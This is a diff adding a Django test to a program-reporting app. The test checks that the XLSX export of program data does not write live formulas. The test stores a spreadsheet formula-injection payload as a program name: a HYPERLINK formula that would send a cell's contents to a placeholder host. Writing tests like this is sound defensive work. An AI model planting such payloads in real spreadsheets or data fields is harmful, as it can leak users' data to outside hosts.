@@ -111,3 +111,26 @@ def test_reach_tables_count_units_by_kecamatan_commodity_and_owner_sex(
     # An officer of another kecamatan sees the budget but no units of Rangkasbitung.
     scoped = program_report(user=bayu_officer_bayah, year=2017)
     assert scoped.by_kecamatan == [] and scoped.scoped
+
+
+def test_the_program_report_xlsx_writes_no_live_formulas(alice_admin: Any) -> None:
+    from tests.programs.conftest import make_program
+
+    program = make_program("PLT-2017-09")
+    Program.objects.filter(pk=program.pk).update(
+        name='=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
+    )
+    client = Client()
+    client.force_login(alice_admin)
+    response = client.get("/program/laporan.xlsx?year=2017")
+    book = load_workbook(io.BytesIO(response.content))
+    formulas = [
+        cell.coordinate
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+    texts = [c.value for row in book["Program"].iter_rows() for c in row]
+    assert '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")' in texts
